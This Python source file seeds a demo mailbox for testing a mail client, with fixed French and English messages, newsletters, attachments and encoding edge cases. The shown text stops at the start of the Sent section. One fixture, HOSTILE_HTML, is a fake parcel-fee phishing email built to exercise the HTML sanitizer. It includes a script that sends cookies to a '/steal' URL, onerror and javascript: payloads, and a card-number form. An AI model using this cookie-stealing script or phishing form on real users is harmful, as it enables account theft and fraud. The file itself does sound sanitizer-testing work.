"""The demo mailbox of demo@example.test: fixed messages, relative dates.

Content is deterministic (fixed texts, Message-IDs, MIME boundaries,
attachments); only the dates move, relative to "now", so the demo always has
mail from today, yesterday and the last two weeks.

The corpus deliberately covers what a mail client must get right:
French and English text, accents, RFC 2047 subjects in Q and B encodings
(split into several encoded-words), one raw UTF-8 (RFC 6532) subject, one
ISO-8859-1 message, display names with accents, HTML newsletters with remote
images and tracking pixels, one hostile HTML message (<script>, onerror,
javascript: links...) for the sanitizer, attachments (PDF, PNG, CSV, a text
file with an RFC 2231 non-ASCII filename), threads (In-Reply-To/References,
with the replies in Sent), notes to self, an empty subject, a very long
subject, a message without Date and two with garbage Dates.

build(now) returns a list of Seed(folder, flags, internaldate, raw_bytes).
"""

import email.base64mime
import email.quoprimime
import struct
import zlib
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from email.charset import QP, Charset
from email.header import Header
from email.mime.application import MIMEApplication
from email.mime.image import MIMEImage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.utils import format_datetime, formataddr

DEMO = ("Dominique Demo", "demo@example.test")

# Marker the seeder looks for to avoid seeding twice.
FIRST_MESSAGE_ID = "<t1.rail-47@lalettredurail.test>"

# The message sent through Postfix to an unknown user, to get a real bounce.
BOUNCE_TRIGGER = {
    "from": DEMO,
    "to": ("Service recrutement", "nobody@example.test"),
    "subject": "Dossier de candidature — Dominique Demo",
    "message_id": "<bounce-trigger.candidature@example.test>",
    "envid": "facteur-demo-bounce-1",
    "body": (
        "Bonjour,\n\n"
        "Veuillez trouver ci-dessous le lien vers mon dossier de candidature\n"
        "pour le poste d'ingénieur logiciel.\n\n"
        "Bien cordialement,\n"
        "Dominique Demo\n"
    ),
}

# --- people -------------------------------------------------------------------
CAMILLE = ("Camille Martin", "camille.martin@acme-industrie.test")
MARC = ("Marc Dubois", "marc.dubois@acme-industrie.test")
SOPHIE = ("Sophie Lefèvre", "sophie.lefevre@acme-industrie.test")
IT = ("Service informatique", "it-support@acme-industrie.test")
ALICE = ("Alice Moreau", "alice@example.test")
BOB = ("Bob Carter", "bob@example.test")
CELINE = ("Céline Dupré", "celine.dupre@orange-mail.test")
JP = ("Jean-Pierre Rousseau", "jp.rousseau@courriel.test")
EMILY = ("Emily Watson", "emily.watson@northwind.test")
DAVID = ("David Kim", "dkim@northwind.test")
RAIL = ("La Lettre du Rail", "newsletter@lalettredurail.test")
QUOTIDIEN = ("Le Petit Quotidien", "info@lepetitquotidien.test")
TECH = ("TechWeekly", "digest@techweekly.test")
FORGE = ("Forge", "notifications@forge.test")
BANQUE = ("Banque Horizon", "noreply@banque-horizon.test")
TRAINS = ("Trains Express", "confirmation@trains-express.test")
COLIS = ("Colis Express - Suivi", "suivi@colis-express.test")
RDV = ("RDV Santé", "rappel@rdv-sante.test")
IMPOTS = ("Finances publiques", "ne-pas-repondre@impots.test")
MAIRIE = ("Mairie du 3e arrondissement", "etat-civil@mairie-lyon3.test")
STAY = ("Stay & Co", "automated@stayco.test")
MEETUP = ("Rust Lyon", "events@rust-lyon.test")
TENNIS = ("Club de tennis de la Croix-Rousse", "bureau@tennis-croixrousse.test")
VOISINS = ("Association des Voisins", "contact@voisins-lyon3.test")

# Sender time zones: French senders write +01:00, US ones -05:00.
PARIS = 1
NEW_YORK = -5


# --- small deterministic attachments ------------------------------------------------
def tiny_png(width=48, height=32, seed=0):
    """A valid RGB PNG with a deterministic gradient."""
    rows = bytearray()
    for y in range(height):
        rows.append(0)  # filter type: none
        for x in range(width):
            rows += bytes(((x * 5 + seed * 40) % 256, (y * 7 + seed * 90) % 256, (x * y + seed * 17) % 256))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(bytes(rows), 9)) + chunk(b"IEND", b"")


def tiny_pdf(lines):
    """A valid one-page PDF showing `lines` (ASCII) in Helvetica."""
    text = "BT /F1 14 Tf 60 780 Td 18 TL " + " ".join(
        "(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") '" for line in lines
    ) + " ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text.encode()),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i, obj)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


# --- header encoding ----------------------------------------------------------------
def encoded_words(text, mode, chunk=18):
    """RFC 2047 encoded-words in Q or B form, several words folded on
    separate lines (a decoder must join adjacent words without the space)."""
    words = []
    for i in range(0, len(text), chunk):
        part = text[i : i + chunk]
        if mode == "q":
            words.append(email.quoprimime.header_encode(part.encode("utf-8"), "UTF-8"))
        else:
            words.append(email.base64mime.header_encode(part, "UTF-8"))
    return "\n ".join(words)


def encode_subject(text, mode):
    if mode in ("q", "b"):
        return encoded_words(text, mode)
    if mode == "raw":  # RFC 6532: UTF-8 straight in the header
        return text
    if mode == "latin1":
        return email.quoprimime.header_encode(text.encode("iso-8859-1"), "ISO-8859-1")
    try:
        text.encode("ascii")
        return text
    except UnicodeEncodeError:
        return Header(text, "utf-8", maxlinelen=76, header_name="Subject").encode()


def addr(person):
    return formataddr(person, "utf-8")


# --- message specs -------------------------------------------------------------------
@dataclass
class Seed:
    folder: str
    flags: tuple
    internaldate: datetime
    raw: bytes
    message_id: str


@dataclass
class Spec:
    key: str
    when: tuple  # ("today", fraction of the day so far) or (days_ago, "HH:MM")
    frm: tuple
    to: tuple
    subject: str
    body: str
    enc: str = "auto"  # auto | q | b | raw | latin1
    html: str = None
    attachments: tuple = ()  # (filename, kind, payload)
    cc: tuple = ()
    flags: tuple = ("\\Seen",)
    folder: str = "INBOX"
    answers: str = None  # key of the message this one answers
    date: str = "normal"  # normal | none | garbage1 | garbage2
    tz: int = PARIS
    extra_headers: tuple = ()


UTF8_QP = Charset("utf-8")
UTF8_QP.body_encoding = QP


def newsletter_html(brand, host, color, title, items, footer, lang="fr"):
    """An HTML newsletter with remote images and a tracking pixel."""
    blocks = "".join(
        f"""
      <tr><td style="padding:16px 24px;border-bottom:1px solid #eee">
        <img src="https://{host}/img/{slug}.jpg" width="552" height="200" alt="" style="display:block;border-radius:6px">
        <h2 style="font-family:Georgia,serif;color:{color};margin:12px 0 4px">{head}</h2>
        <p style="font-family:Arial,sans-serif;color:#333;line-height:1.5;margin:0">{text}</p>
        <p style="margin:8px 0 0"><a href="https://{host}/r/{slug}?utm_source=newsletter" style="color:{color}">{"Lire la suite" if lang == "fr" else "Read more"} &rarr;</a></p>
      </td></tr>"""
        for slug, head, text in items
    )
    return f"""<!DOCTYPE html>
<html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title></head>
<body style="margin:0;background:#f4f4f4">
  <table role="presentation" width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff">
    <tr><td style="background:{color};padding:20px 24px">
      <img src="https://{host}/img/logo-white.png" width="180" height="40" alt="{brand}">
    </td></tr>
    <tr><td style="padding:24px 24px 8px"><h1 style="font-family:Georgia,serif;margin:0">{title}</h1></td></tr>{blocks}
    <tr><td style="padding:16px 24px;font-family:Arial,sans-serif;font-size:12px;color:#888">
      {footer}<br>
      <a href="https://{host}/unsubscribe?u=demo%40example.test" style="color:#888">{"Se désinscrire" if lang == "fr" else "Unsubscribe"}</a>
    </td></tr>
  </table>
  <img src="https://{host}/open.gif?u=demo%40example.test&amp;c={zlib.crc32(title.encode()):08x}" width="1" height="1" alt="">
</body></html>
"""


def newsletter_text(title, items, lang="fr"):
    more = "Lire la suite" if lang == "fr" else "Read more"
    return title + "\n\n" + "\n\n".join(f"* {head}\n  {text}\n  {more} : https://…/{slug}" for slug, head, text in items) + "\n"


HOSTILE_HTML = """<html><head>
<style>@import url("https://colis-express.test/track.css"); body { font-family: Arial; }</style>
<script>document.location = "https://colis-express.test/steal?c=" + document.cookie;</script>
</head><body onload="alert('onload')">
<p>Bonjour,</p>
<p>Votre colis <b>n° CX-4471-FR</b> n'a pas pu être livré : des frais de douane de <b>1,99 €</b> restent à régler.</p>
<img src="x" onerror="alert('xss via onerror')">
<img src="https://colis-express.test/pixel.gif" width="1" height="1">
<p><a href="javascript:alert('javascript: link')">Régler les frais maintenant</a></p>
<p><a href="https://colis-express.test/pay" onclick="steal()">Suivre mon colis</a></p>
<iframe src="https://colis-express.test/frame" width="1" height="1"></iframe>
<form action="https://colis-express.test/login" method="post">
  Carte bancaire : <input name="card"> <button type="submit">Valider</button>
</form>
<svg><script>alert('svg script')</script></svg>
<p style="background:url('javascript:alert(1)')">L'équipe Colis Express</p>
</body></html>
"""


def _specs():
    rail_items_1 = [
        ("trains-de-nuit", "Les trains de nuit reviennent", "Paris–Berlin, Paris–Vienne : ce qui change cet hiver pour les voyageurs."),
        ("gares-rénovées", "Trois gares rénovées en Auvergne", "Verrières, bois local et quais accessibles : visite guidée."),
        ("tarifs-2025", "Tarifs 2025 : ce qu'il faut savoir", "Cartes de réduction, abonnements et nouvelles offres jeunes."),
    ]
    rail_items_2 = [
        ("ligne-des-cevennes", "La ligne des Cévennes sauvée", "Après dix ans d'incertitude, les travaux commencent au printemps."),
        ("velo-a-bord", "Vélo à bord : le guide", "Réservation, crochets, bagages : tout pour voyager avec son vélo."),
    ]
    quotidien = [
        [
            ("greve", "Grève : le point sur les transports", "Métros et trams perturbés jeudi, les bus circulent normalement."),
            ("meteo", "Météo : premières gelées", "Jusqu'à −4 °C attendus dans les vallées ce week-end."),
            ("marches", "Marchés de Noël : le calendrier", "Place Carnot, Croix-Rousse, Vieux-Lyon : dates et horaires."),
        ],
        [
            ("budget-ville", "Budget de la ville voté", "Priorité aux écoles et aux pistes cyclables."),
            ("concert", "Concert gratuit à l'Auditorium", "L'orchestre joue Debussy dimanche à 16 h."),
        ],
        [
            ("fete-lumieres", "Fête des Lumières : le programme", "Quarante installations, quatre soirs, un seul conseil : partez tôt."),
            ("recette", "La recette de la semaine", "Cardons à la moelle, le plat lyonnais des fêtes."),
        ],
    ]
    tech = [
        [
            ("rust-wasm", "This week in Rust & WebAssembly", "Leptos 0.7 lands, wasm-bindgen drops old targets, and a new profiler."),
            ("imap-idle", "IMAP IDLE is not dead", "Why push notifications for mail still start with a 30-year-old command."),
        ],
        [
            ("async-traits", "Async traits, one year later", "What changed for library authors and what still hurts."),
            ("tls-rustls", "rustls 0.23 in production", "Three teams share their migration notes."),
        ],
        [
            ("css-container", "Container queries everywhere", "Responsive components without media-query soup."),
            ("sqlite", "SQLite as an application file format", "A short history and a long list of users."),
        ],
    ]

    return [
        # ---- today ----
        Spec("t1", ("today", 0.15), RAIL, DEMO, "La Lettre du Rail n°47 : les trains de nuit reviennent",
             newsletter_text("La Lettre du Rail n°47", rail_items_1),
             html=newsletter_html("La Lettre du Rail", "lalettredurail.test", "#8a1538", "La Lettre du Rail n°47", rail_items_1,
                                  "Vous recevez cette lettre car vous êtes abonné·e à La Lettre du Rail."),
             flags=(), extra_headers=(("List-Unsubscribe", "<https://lalettredurail.test/unsubscribe?u=demo%40example.test>"),)),
        Spec("t2", ("today", 0.35), CAMILLE, DEMO, "Réunion d'équipe jeudi : ordre du jour",
             "Bonjour à tous,\n\nVoici l'ordre du jour de la réunion de jeudi (10 h, salle Fourvière) :\n\n"
             "1. Point sur la migration du serveur de fichiers\n2. Budget 2025 (Marc)\n3. Planning des congés de fin d'année\n"
             "4. Questions diverses\n\nMerci de m'envoyer vos points complémentaires avant mercredi midi.\n\nCamille\n",
             enc="q", cc=(MARC, SOPHIE), flags=("\\Flagged",)),
        Spec("t3", ("today", 0.55), DEMO, DEMO, "Note : rappeler le plombier avant 18 h",
             "Plombier : M. Garnier, 04 78 00 00 00.\nFuite sous l'évier de la cuisine, devis demandé la semaine dernière.\n"),
        Spec("t4", ("today", 0.7), BOB, DEMO, "Lunch tomorrow?",
             "Hi Dominique,\n\nAre you free for lunch tomorrow? There's a new ramen place near the Part-Dieu station.\n"
             "12:30 works for me.\n\nBob\n", flags=()),
        Spec("t5", ("today", 0.85), FORGE, DEMO, "[facteur] Pull request #42: Fix IDLE reconnect loop",
             "@alice-moreau opened a pull request in facteur/facteur:\n\n  #42 Fix IDLE reconnect loop\n\n"
             "When the server closes an IDLE connection with BYE, the client reconnected immediately\n"
             "and in a loop. This adds exponential backoff (max 60 s).\n\n"
             "View it on Forge: https://forge.test/facteur/facteur/pull/42\n", flags=()),
        Spec("t6", ("today", 0.95), EMILY, DEMO, "Re: Q4 delivery schedule",
             "Hi Dominique,\n\nThanks, that works for us. We'll confirm the December 12 slot with the warehouse.\n\n"
             "Best,\nEmily\n\n> Hello Emily,\n> We can ship the first batch on December 12 and the rest the week after.\n",
             tz=NEW_YORK, flags=("\\Flagged",), answers="s1"),
        # ---- yesterday ----
        Spec("y1", (1, "08:12"), TRAINS, DEMO, "Votre billet Lyon → Paris du 14 décembre",
             "Bonjour Dominique Demo,\n\nVotre réservation est confirmée.\n\n"
             "  Lyon Part-Dieu 07 h 04 → Paris Gare de Lyon 09 h 00\n  Voiture 14, place 82 (fenêtre)\n  Référence : QZX4RT\n\n"
             "Votre billet est en pièce jointe (PDF).\n\nBon voyage !\n",
             enc="b", attachments=(("billet-QZX4RT.pdf", "pdf", ["Trains Express - e-billet", "Lyon Part-Dieu -> Paris Gare de Lyon",
                                                                 "Voiture 14, place 82", "Reference QZX4RT"]),)),
        Spec("y2", (1, "09:40"), MARC, DEMO, "Budget 2025 – première version",
             "Bonjour Dominique,\n\nCi-joint la première version du budget 2025 (CSV, à ouvrir dans le tableur).\n"
             "Les lignes « Infrastructure » sont encore provisoires.\n\nMarc\n",
             attachments=(("budget-2025.csv", "csv",
                           "poste;montant_eur\nSalaires;412000\nInfrastructure;58000\nFormation;12500\nDéplacements;9800\n"),),
             flags=("\\Seen", "\\Flagged", "\\Answered")),
        Spec("y3", (1, "11:05"), COLIS, DEMO, "Votre colis est en attente de livraison",
             "Votre colis n° CX-4471-FR n'a pas pu être livré. Réglez 1,99 € de frais.\n",
             html=HOSTILE_HTML, flags=()),
        Spec("y4", (1, "13:30"), ALICE, DEMO, "Photos du week-end 📷",
             "Coucou !\n\nVoici la photo du lac dont je te parlais. Les autres arrivent ce soir.\n\nBises,\nAlice\n",
             attachments=(("lac-annecy.png", "png", 1),)),
        Spec("y5", (1, "17:45"), DEMO, DEMO, "Liste de courses",
             "- pain\n- comté\n- pommes (reinettes)\n- café\n- lessive\n"),
        Spec("y6", (1, "21:10"), TECH, DEMO, "This week in Rust & WebAssembly",
             newsletter_text("TechWeekly #211", tech[0], "en"),
             html=newsletter_html("TechWeekly", "techweekly.test", "#1f4e79", "TechWeekly #211", tech[0],
                                  "You are receiving this because you subscribed at techweekly.test.", "en"),
             tz=NEW_YORK),
        # ---- 2 days ago ----
        Spec("d2a", (2, "07:55"), QUOTIDIEN, DEMO, "Les titres du jour : grève, météo et marchés de Noël",
             newsletter_text("Le Petit Quotidien", quotidien[0]),
             html=newsletter_html("Le Petit Quotidien", "lepetitquotidien.test", "#c0392b", "Les titres du jour", quotidien[0],
                                  "Le Petit Quotidien, 12 rue de la Presse, 69003 Lyon.")),
        Spec("d2b", (2, "10:20"), SOPHIE, DEMO, "Entretien annuel : créneaux disponibles",
             "Bonjour Dominique,\n\nLes entretiens annuels auront lieu du 9 au 20 décembre.\n"
             "Merci de choisir un créneau dans l'outil RH avant vendredi.\n\nBien à vous,\nSophie Lefèvre\nRessources humaines\n",
             enc="q"),
        Spec("d2c", (2, "14:02"), CAMILLE, DEMO, "Re: Déménagement du serveur de fichiers samedi",
             "Dominique,\n\nOui, je serai là samedi matin pour vérifier les partages de l'équipe.\n\nCamille\n\n"
             "> Je peux vérifier les accès lundi à la première heure.\n", answers="s2"),
        Spec("d2d", (2, "19:30"), CELINE, DEMO, "Anniversaire de Maman 🎂",
             "Salut,\n\nOn fait une surprise à Maman le 21 ? Je m'occupe du gâteau, tu peux réserver le restaurant ?\n\nCéline\n"),
        # ---- 3 days ago ----
        Spec("d3a", (3, "08:30"), BANQUE, DEMO, "Votre relevé de compte de novembre est disponible",
             "Bonjour,\n\nVotre relevé de compte de novembre est disponible dans votre espace client.\n\nBanque Horizon\n",
             html="<html><body style=\"font-family:Arial\"><img src=\"https://banque-horizon.test/img/logo.png\" alt=\"Banque Horizon\" width=\"160\">"
                  "<p>Bonjour,</p><p>Votre <b>relevé de compte de novembre</b> est disponible dans votre espace client.</p>"
                  "<p><a href=\"https://banque-horizon.test/espace-client\">Accéder à mon espace</a></p>"
                  "<p style=\"font-size:11px;color:#777\">Ceci est un message automatique, merci de ne pas y répondre.</p></body></html>\n"),
        Spec("d3b", (3, "11:11"), EMILY, DEMO, "Q4 delivery schedule",
             "Hello Dominique,\n\nCould you send us the delivery schedule for Q4? Our warehouse needs it by Friday.\n\n"
             "Thanks,\nEmily Watson\nNorthwind Trading\n", tz=NEW_YORK, flags=("\\Seen", "\\Answered")),
        Spec("d3c", (3, "16:45"), JP, DEMO, "Vieux papiers à trier",
             "Salut,\n\nJ'ai retrouvé une boîte de vieux papiers de la maison de Grand-Mère. On trie ça ensemble ?\n\nJP\n",
             date="none"),
        Spec("d3d", (3, "18:20"), MEETUP, DEMO, "Rust Lyon #12 : async sans larmes — inscription confirmée",
             "Votre inscription est confirmée.\n\nRust Lyon #12 — async sans larmes\nJeudi 19 h, La Cordée Guillotière\n"),
        # ---- 4 days ago ----
        Spec("d4a", (4, "09:00"), IT, DEMO, "Déménagement du serveur de fichiers samedi",
             "Bonjour,\n\nLe serveur de fichiers FS-01 sera migré samedi entre 8 h et 14 h.\n"
             "Les partages seront en lecture seule pendant l'opération.\n\nLe service informatique\n",
             flags=("\\Seen", "\\Answered")),
        Spec("d4b", (4, "10:30"), STAY, DEMO, "Your booking in Annecy is confirmed",
             "Your booking is confirmed: Lakeside studio, Annecy, 2 nights.\n",
             html="<html><body><img src=\"https://stayco.test/img/annecy-lakeside.jpg\" width=\"600\" alt=\"\">"
                  "<h1>You're going to Annecy!</h1><p>Lakeside studio &middot; 2 nights &middot; check-in 3 pm</p>"
                  "<p><a href=\"https://stayco.test/trips/8812\">View your trip</a></p></body></html>\n", tz=0),
        Spec("d4c", (4, "12:15"), DAVID, DEMO, "Re: API keys rotation",
             "Done, the old keys are revoked. The new ones are in the vault under northwind/prod.\n\nDavid\n",
             date="garbage1", tz=NEW_YORK),
        Spec("d4d", (4, "15:40"), ALICE, DEMO, "Re: Ciné vendredi ?",
             "Va pour la séance de 20 h 45 ! On se retrouve devant le cinéma.\n\nAlice\n"),
        Spec("d4e", (4, "20:05"), DEMO, DEMO, "Idées cadeaux Noël",
             "Maman : livre de recettes lyonnaises\nCéline : place de concert\nJP : gants de vélo\n",
             flags=("\\Seen", "\\Flagged")),
        # ---- 5 days ago ----
        Spec("d5a", (5, "08:05"), RDV, DEMO, "Rappel : rendez-vous le 3 décembre à 9 h 30",
             "Bonjour,\n\nNous vous rappelons votre rendez-vous avec le Dr Lambert le 3 décembre à 9 h 30.\n"
             "En cas d'empêchement, merci d'annuler au moins 24 h à l'avance.\n", enc="b"),
        Spec("d5b", (5, "10:50"), CAMILLE, DEMO, "Présentation client — version finale",
             "Bonjour Dominique,\n\nVoici la version finale de la présentation pour Northwind.\nMerci pour tes relectures !\n\nCamille\n",
             attachments=(("presentation-northwind.pdf", "pdf", ["Acme Industrie x Northwind", "Proposition commerciale 2025"]),)),
        Spec("d5c", (5, "13:25"), FORGE, DEMO, "[facteur] Issue #17: Folder list flickers on reconnect",
             "@bob-carter opened an issue in facteur/facteur:\n\n  #17 Folder list flickers on reconnect\n\n"
             "After a network drop the folder list empties for half a second before coming back.\n"),
        Spec("d5d", (5, "18:00"), MAIRIE, DEMO, "Inscription sur les listes électorales",
             "Madame, Monsieur,\n\nVotre demande d'inscription sur les listes électorales a bien été enregistrée.\n"
             "Vous recevrez votre carte d'électeur par courrier.\n\nLe service de l'état civil\n", enc="latin1"),
        # ---- 6 days ago ----
        Spec("d6a", (6, "09:15"), TECH, DEMO, "Async traits, one year later",
             newsletter_text("TechWeekly #210", tech[1], "en"),
             html=newsletter_html("TechWeekly", "techweekly.test", "#1f4e79", "TechWeekly #210", tech[1],
                                  "You are receiving this because you subscribed at techweekly.test.", "en"),
             tz=NEW_YORK),
        Spec("d6b", (6, "11:40"), BOB, DEMO, "Board games night",
             "Hey,\n\nBoard games at my place on Saturday? I just got Wingspan. Bring snacks!\n\nBob\n",
             flags=("\\Seen", "\\Answered")),
        Spec("d6c", (6, "14:30"), MARC, DEMO, "Notes de frais d'octobre",
             "Dominique,\n\nCi-joint le récapitulatif de tes notes de frais d'octobre. Merci de vérifier avant validation.\n\nMarc\n",
             attachments=(("récapitulatif frais.txt", "text",
                           "Récapitulatif des frais — octobre\n\n03/10  Train Lyon-Paris     87,00 €\n04/10  Hôtel                 112,50 €\n"
                           "04/10  Repas client           46,20 €\n\nTotal                 245,70 €\n"),)),
        Spec("d6d", (6, "22:10"), CELINE, DEMO, "Re: Vacances à Noël — qui vient ?",
             "On sera cinq finalement : Maman, JP, les enfants et moi. Tu confirmes pour toi ?\n\nCéline\n", enc="raw"),
        # ---- 7 days ago ----
        Spec("d7a", (7, "08:45"), QUOTIDIEN, DEMO, "Budget de la ville voté, concert gratuit dimanche",
             newsletter_text("Le Petit Quotidien", quotidien[1]),
             html=newsletter_html("Le Petit Quotidien", "lepetitquotidien.test", "#c0392b", "Les titres du jour", quotidien[1],
                                  "Le Petit Quotidien, 12 rue de la Presse, 69003 Lyon.")),
        Spec("d7b", (7, "10:05"), SOPHIE, DEMO, "Mutuelle : changement de contrat au 1er janvier",
             "Bonjour à toutes et à tous,\n\nÀ compter du 1er janvier, la mutuelle d'entreprise change d'organisme.\n"
             "Vos nouvelles cartes de tiers payant vous seront envoyées à domicile.\n\nSophie\n", enc="q"),
        Spec("d7c", (7, "16:20"), EMILY, DEMO, "Contract renewal",
             "Hi Dominique,\n\nOur contract expires at the end of January. Could we schedule a call next week to discuss the renewal?\n\n"
             "Emily\n", tz=NEW_YORK, flags=("\\Seen", "\\Flagged")),
        Spec("d7d", (7, "19:55"), TENNIS, DEMO, "Tournoi interne : tableau publié",
             "Le tableau du tournoi interne est affiché au club et en ligne. Premier tour avant le 15.\n\nLe bureau\n"),
        # ---- 8 days ago ----
        Spec("d8a", (8, "07:30"), BANQUE, DEMO, "Alerte : paiement par carte de 249,90 €",
             "Un paiement de 249,90 € a été effectué avec votre carte se terminant par 4821 chez FNAC LYON.\n"
             "Si vous n'êtes pas à l'origine de cette opération, contactez-nous.\n"),
        Spec("d8b", (8, "09:50"), CAMILLE, DEMO, "Compte rendu du comité de pilotage",
             "Bonjour,\n\nVoici le compte rendu du comité de pilotage du projet Atlas.\n\n"
             "Décisions :\n- le lot 2 est décalé de deux semaines ;\n- l'équipe QA est renforcée jusqu'en mars ;\n"
             "- la démonstration client est maintenue au 18 décembre.\n\n"
             "Risques :\n- dépendance au fournisseur de capteurs (délais) ;\n- disponibilité de l'environnement de recette.\n\n"
             "Prochain comité : le 8 janvier.\n\nCamille\n", cc=(MARC,)),
        Spec("d8c", (8, "13:00"), JP, DEMO, "Sortie vélo dimanche ?",
             "On monte à Fourvière dimanche matin ? Départ 9 h place Bellecour.\n"),
        Spec("d8d", (8, "17:35"), FORGE, DEMO, "[facteur] Release v0.3.0",
             "facteur v0.3.0 is out.\n\n- Threaded conversation view\n- Faster folder sync (CONDSTORE)\n- Many bug fixes\n"),
        Spec("d8e", (8, "21:00"), DEMO, DEMO, "Lien à lire plus tard",
             "https://www.rfc-editor.org/rfc/rfc9051 — IMAP4rev2, à lire en entier un jour.\n"),
        # ---- 9 days ago ----
        Spec("d9a", (9, "08:20"), IMPOTS, DEMO, "Votre avis d'impôt est disponible",
             "Madame, Monsieur,\n\nVotre avis d'impôt sur le revenu est disponible dans votre espace particulier.\n"),
        Spec("d9b", (9, "11:30"), DAVID, DEMO, "API keys rotation",
             "Hi,\n\nReminder: we rotate the production API keys on Thursday. Please make sure your integration reads them from the vault.\n\n"
             "David Kim\nNorthwind IT\n", tz=NEW_YORK),
        Spec("d9c", (9, "15:15"), ALICE, DEMO, "Recette du gratin dauphinois",
             "Pour 6 : 1,5 kg de pommes de terre, 50 cl de lait, 25 cl de crème, ail, muscade.\n"
             "Pas de fromage, c'est la règle !\n\nAlice\n", flags=("\\Seen", "\\Flagged", "\\Answered")),
        Spec("d9d", (9, "18:40"), RAIL, DEMO, "La Lettre du Rail n°46 : la ligne des Cévennes sauvée",
             newsletter_text("La Lettre du Rail n°46", rail_items_2),
             html=newsletter_html("La Lettre du Rail", "lalettredurail.test", "#8a1538", "La Lettre du Rail n°46", rail_items_2,
                                  "Vous recevez cette lettre car vous êtes abonné·e à La Lettre du Rail.")),
        # ---- 10 days ago ----
        Spec("d10a", (10, "09:05"), IT, DEMO, "Mot de passe : expiration dans 5 jours",
             "Votre mot de passe Acme expire dans 5 jours. Changez-le depuis l'intranet (jamais par e-mail).\n"),
        Spec("d10b", (10, "12:45"), MARC, DEMO,
             "Point d'étape sur la refonte complète du processus de validation des notes de frais, des bons de commande "
             "et des demandes d'achat pour l'ensemble des filiales européennes du groupe",
             "Dominique,\n\nLe sujet est long, le message est court : on en parle jeudi.\n\nMarc\n"),
        Spec("d10c", (10, "16:00"), BOB, DEMO, "",
             "Oops, forgot the subject. Here's the picture of the bike I told you about.\n\nBob\n",
             attachments=(("bike.png", "png", 2),)),
        Spec("d10d", (10, "20:30"), STAY, DEMO, "How was your stay in Lisbon?",
             "Tell us about your stay: https://stayco.test/review/7731\n",
             html="<html><body><img src=\"https://stayco.test/img/lisbon.jpg\" width=\"600\" alt=\"\">"
                  "<h1>How was Lisbon?</h1><p>Leave a review and help other travellers.</p>"
                  "<p><a href=\"https://stayco.test/review/7731\">Write a review</a></p>"
                  "<img src=\"https://stayco.test/o.gif?id=7731\" width=\"1\" height=\"1\"></body></html>\n", tz=0),
        # ---- 11 days ago ----
        Spec("d11a", (11, "08:10"), TECH, DEMO, "Container queries everywhere",
             newsletter_text("TechWeekly #209", tech[2], "en"),
             html=newsletter_html("TechWeekly", "techweekly.test", "#1f4e79", "TechWeekly #209", tech[2],
                                  "You are receiving this because you subscribed at techweekly.test.", "en"),
             tz=NEW_YORK),
        Spec("d11b", (11, "10:25"), CAMILLE, DEMO, "Planning des congés de fin d'année",
             "Bonjour,\n\nMerci de renseigner vos congés de fin d'année dans le tableau partagé avant le 1er décembre.\n"
             "Il faut au moins deux personnes présentes chaque jour ouvré.\n\nCamille\n", enc="b"),
        Spec("d11c", (11, "14:50"), CELINE, DEMO, "Photos de Lisbonne",
             "Voici la plus belle : le tram 28 devant la cathédrale.\n\nCéline\n",
             attachments=(("tram-28.png", "png", 3),)),
        Spec("d11d", (11, "19:05"), MEETUP, DEMO, "Rust Lyon #12 : appel à orateurs",
             "Vous avez un sujet Rust à partager ? Proposez un talk de 20 minutes pour la prochaine édition.\n"),
        # ---- 12 days ago ----
        Spec("d12a", (12, "09:35"), SOPHIE, DEMO, "Bienvenue à Julien Mercier dans l'équipe",
             "Bonjour à tous,\n\nJulien Mercier rejoint l'équipe logiciel lundi. Réservez-lui un bon accueil !\n\nSophie\n",
             flags=("\\Seen", "\\Answered")),
        Spec("d12b", (12, "11:55"), EMILY, DEMO, "Kick-off meeting notes",
             "Hi all,\n\nNotes from today's kick-off:\n- weekly sync on Tuesdays\n- shared tracker set up\n"
             "- first milestone mid-December\n\nEmily\n", tz=NEW_YORK),
        Spec("d12c", (12, "15:30"), VOISINS, DEMO, "Vide-grenier du quartier",
             "Le vide-grenier aura lieu le dimanche 8 décembre, place Guichard. Inscriptions ouvertes.\n",
             date="garbage2"),
        Spec("d12d", (12, "21:45"), JP, DEMO, "Le livre dont je t'ai parlé",
             "C'est « L'Art de la mécanique » de Pirsig (Zen and the Art of Motorcycle Maintenance). Je te le prête !\n"),
        # ---- 13 days ago ----
        Spec("d13a", (13, "08:00"), QUOTIDIEN, DEMO, "Fête des Lumières : le programme complet",
             newsletter_text("Le Petit Quotidien", quotidien[2]),
             html=newsletter_html("Le Petit Quotidien", "lepetitquotidien.test", "#c0392b", "Les titres du jour", quotidien[2],
                                  "Le Petit Quotidien, 12 rue de la Presse, 69003 Lyon.")),
        Spec("d13b", (13, "10:10"), MARC, DEMO, "Accès au nouvel outil de reporting",
             "Dominique,\n\nTon accès à l'outil de reporting est ouvert : https://reporting.acme-industrie.test\n\nMarc\n"),
        Spec("d13c", (13, "14:20"), BOB, DEMO, "Welcome to the neighbourhood!",
             "Hi Dominique,\n\nWelcome to the building! I'm on the 3rd floor, knock if you need anything.\n\nBob\n"),
        Spec("d13d", (13, "18:30"), FORGE, DEMO, "[facteur] Welcome to the facteur project",
             "You have been added to facteur/facteur as a maintainer.\n"),
        # ---- Sent (replies from the demo user; the originals are \Answered) ----
